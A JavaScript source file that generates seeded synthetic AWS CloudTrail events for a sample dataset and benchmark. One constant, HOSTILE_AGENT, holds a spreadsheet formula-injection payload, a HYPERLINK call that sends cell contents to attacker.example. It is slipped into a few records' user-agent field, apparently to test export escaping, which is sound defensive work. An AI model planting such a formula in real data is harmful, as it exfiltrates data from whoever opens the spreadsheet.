// Deterministic synthetic CloudTrail events in LookupEvents item shape, for the bundled sample
// (scripts/make-sample.mjs) and the benchmark (scripts/bench.mjs). Same seed, same bytes.
import { createRequire } from 'node:module';

/** The project's seeded generator (src/common/random.ts, built by npm ci). */
export const rng = createRequire(import.meta.url)('../../dist/common/random.js').seededRandom;

const ACCOUNT = '123456789012';
const USERS = ['alice', 'bob', 'carol', 'deploy-bot', '田中太郎', 'José', 'Zoë'];
const ROLES = ['Admin', 'ReadOnly', 'ci-deployer', 'incident-responder'];
const REGIONS = ['us-east-1', 'us-west-2', 'eu-west-1', 'ap-northeast-1'];
const AGENTS = [
  'aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.debian.12 prompt/off command/ec2.describe-instances',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  'Boto3/1.34.100 md/Botocore#1.34.100 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.8',
  'aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.171.0',
];
const HOSTILE_AGENT = '=HYPERLINK("http://attacker.example/x?d="&A1,"Click for details")';
const CALLS = [
  ['ec2.amazonaws.com', 'DescribeInstances', true], ['ec2.amazonaws.com', 'RunInstances', false],
  ['ec2.amazonaws.com', 'DescribeSecurityGroups', true], ['ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', false],
  ['s3.amazonaws.com', 'ListBuckets', true], ['s3.amazonaws.com', 'PutBucketPolicy', false],
  ['iam.amazonaws.com', 'ListUsers', true], ['iam.amazonaws.com', 'CreateAccessKey', false],
  ['iam.amazonaws.com', 'CreateUser', false], ['lambda.amazonaws.com', 'ListFunctions20150331', true],
  ['kms.amazonaws.com', 'Decrypt', true], ['cloudtrail.amazonaws.com', 'LookupEvents', true],
  ['monitoring.amazonaws.com', 'GetMetricData', true], ['sts.amazonaws.com', 'GetCallerIdentity', true],
];

const pick = (r, list) => list[Math.floor(r() * list.length)];
const hex = (r, n) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
const uuid = (r) => `${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-a${hex(r, 3)}-${hex(r, 12)}`;
const keyId = (r, prefix) => prefix + Array.from({ length: 16 }, () => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Math.floor(r() * 32)]).join('');

function address(r) {
  const x = r();
  if (x < 0.45) return `203.0.113.${Math.floor(r() * 254) + 1}`;
  if (x < 0.75) return `198.51.100.${Math.floor(r() * 254) + 1}`;
  if (x < 0.9) return `2001:db8:${hex(r, 4)}::${hex(r, 2)}`;
  return pick(r, ['ec2.amazonaws.com', 'lambda.amazonaws.com', 'AWS Internal']);
}

function identity(r) {
  if (r() < 0.5) {
    const name = pick(r, USERS);
    return {
      username: name,
      userIdentity: { type: 'IAMUser', principalId: `AIDA${keyId(r, '').slice(0, 17)}`, arn: `arn:aws:iam::${ACCOUNT}:user/${name}`, accountId: ACCOUNT, accessKeyId: keyId(r, 'AKIA'), userName: name },
    };
  }
  const role = pick(r, ROLES);
  const session = pick(r, USERS);
  const roleId = `AROA${keyId(r, '').slice(0, 17)}`;
  return {
    username: session,
    userIdentity: {
      type: 'AssumedRole', principalId: `${roleId}:${session}`, arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${role}/${session}`,
      accountId: ACCOUNT, accessKeyId: keyId(r, 'ASIA'),
      sessionContext: {
        sessionIssuer: { type: 'Role', principalId: roleId, arn: `arn:aws:iam::${ACCOUNT}:role/${role}`, accountId: ACCOUNT, userName: role },
        attributes: { creationDate: '2024-07-22T00:00:00Z', mfaAuthenticated: 'false' },
      },
    },
  };
}

/** One record; `kind` biases towards the cases the cookbook shows. */
function record(r, time) {
  const who = identity(r);
  const x = r();
  const base = {
    eventVersion: '1.09', userIdentity: who.userIdentity, eventTime: time, awsRegion: pick(r, REGIONS),
    sourceIPAddress: address(r), userAgent: r() < 0.004 ? HOSTILE_AGENT : pick(r, AGENTS),
    requestID: uuid(r), eventID: uuid(r), eventType: 'AwsApiCall', managementEvent: true,
    recipientAccountId: ACCOUNT, eventCategory: 'Management',
    tlsDetails: { tlsVersion: 'TLSv1.3', cipherSuite: 'TLS_AES_128_GCM_SHA256', clientProvidedHostHeader: 'ec2.us-east-1.amazonaws.com' },
  };
  if (x < 0.04) return signIn(r, base, 'ConsoleLogin', who);
  if (x < 0.06) return signIn(r, base, 'SwitchRole', who);
  if (x < 0.12) return assumeRole(r, base);
  if (x < 0.2) return s3Data(r, base);
  const [source, name, readOnly] = pick(r, CALLS);
  const rec = { ...base, eventSource: source, eventName: name, readOnly, requestParameters: { maxResults: 50, filterSet: { items: [{ name: 'instance-state-name', valueSet: { items: [{ value: 'running' }] } }] } }, responseElements: null };
  const e = r();
  if (e < 0.025) Object.assign(rec, { errorCode: 'AccessDenied', errorMessage: `User: ${who.userIdentity.arn} is not authorized to perform: ${source.split('.')[0]}:${name} because no identity-based policy allows it` });
  else if (e < 0.035) Object.assign(rec, { errorCode: 'Client.UnauthorizedOperation', errorMessage: 'You are not authorized to perform this operation.' });
  else if (e < 0.045) Object.assign(rec, { errorCode: 'ThrottlingException', errorMessage: 'Rate exceeded' });
  return { rec, who, resources: [] };
}

function signIn(r, base, name, who) {
  const failed = r() < 0.35;
  const rec = {
    ...base, eventSource: 'signin.amazonaws.com', eventName: name, eventType: 'AwsConsoleSignIn', readOnly: false,
    userAgent: AGENTS[1], requestParameters: null, responseElements: { [name]: failed ? 'Failure' : 'Success' },
    additionalEventData: name === 'ConsoleLogin' ? { LoginTo: 'https://console.aws.amazon.com/', MobileVersion: 'No', MFAUsed: 'No' } : { SwitchFrom: who.userIdentity.arn, RedirectTo: 'https://console.aws.amazon.com/' },
  };
  if (failed && name === 'ConsoleLogin') rec.errorMessage = 'Failed authentication';
  return { rec, who, resources: [] };
}

function assumeRole(r, base) {
  const role = pick(r, ROLES);
  const rec = {
    ...base, eventSource: 'sts.amazonaws.com', eventName: 'AssumeRole', readOnly: true,
    requestParameters: { roleArn: `arn:aws:iam::${ACCOUNT}:role/${role}`, roleSessionName: pick(r, USERS), durationSeconds: 3600 },
    responseElements: { credentials: { accessKeyId: keyId(r, 'ASIA'), expiration: 'Jul 22, 2024, 1:00:00 PM', sessionToken: 'IQoJb3JpZ2luX2VjEXAMPLE' }, assumedRoleUser: { assumedRoleId: `AROA${keyId(r, '').slice(0, 17)}:session`, arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${role}/session` } },
    resources: [{ accountId: ACCOUNT, type: 'AWS::IAM::Role', ARN: `arn:aws:iam::${ACCOUNT}:role/${role}` }],
  };
  return { rec, who: { username: 'session', userIdentity: rec.userIdentity }, resources: [{ ResourceType: 'AWS::IAM::Role', ResourceName: `arn:aws:iam::${ACCOUNT}:role/${role}` }] };
}

function s3Data(r, base) {
  const bucket = pick(r, ['prod-logs', 'customer-uploads', 'データ-bucket']);
  const key = `reports/2024/07/${hex(r, 6)}.csv`;
  const rec = {
    ...base, eventSource: 's3.amazonaws.com', eventName: pick(r, ['GetObject', 'PutObject']), readOnly: r() < 0.7,
    eventCategory: 'Data', managementEvent: false, requestParameters: { bucketName: bucket, key, Host: `${bucket}.s3.amazonaws.com` }, responseElements: null,
    resources: [{ type: 'AWS::S3::Object', ARN: `arn:aws:s3:::${bucket}/${key}` }, { accountId: ACCOUNT, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` }],
  };
  return { rec, who: { username: 'x', userIdentity: rec.userIdentity }, resources: [{ ResourceType: 'AWS::S3::Object', ResourceName: `arn:aws:s3:::${bucket}/${key}` }] };
}

/** A LookupEvents item as `ct-fetch` writes it. */
export function lookupItem(r, time) {
  const { rec, resources } = record(r, time);
  return {
    EventId: rec.eventID, EventName: rec.eventName, ReadOnly: String(rec.readOnly), AccessKeyId: rec.userIdentity.accessKeyId,
    EventTime: time, EventSource: rec.eventSource, Username: rec.userIdentity.userName ?? rec.userIdentity.principalId.split(':')[1],
    Resources: resources, CloudTrailEvent: JSON.stringify(rec),
  };
}

/** `count` NDJSON lines, newest first, one event every `stepSeconds` back from `end`. */
export function* lookupLines(seed, count, end = Date.parse('2024-07-23T12:00:00Z'), stepSeconds = 37) {
  const r = rng(seed);
  for (let i = 0; i < count; i++) {
    const time = new Date(end - i * stepSeconds * 1000).toISOString().replace('.000Z', 'Z');
    yield `${JSON.stringify(lookupItem(r, time))}\n`;
  }
}
